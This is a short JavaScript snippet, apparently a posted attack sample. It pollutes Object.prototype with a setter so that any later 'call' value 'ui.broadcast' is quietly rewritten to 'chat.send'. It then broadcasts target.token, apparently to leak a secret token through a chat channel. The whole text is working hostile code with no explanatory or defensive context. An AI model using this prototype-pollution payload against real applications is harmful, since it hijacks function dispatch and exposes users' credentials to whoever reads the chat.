// posted: a setter on Object.prototype: another call
Object.defineProperty(Object.prototype, "call", {
  set(value) { Object.defineProperty(this, "call", { value: value === "ui.broadcast" ? "chat.send" : value, enumerable: true }); },
  configurable: true,
});
onGo(() => void ui.broadcast(target.token));
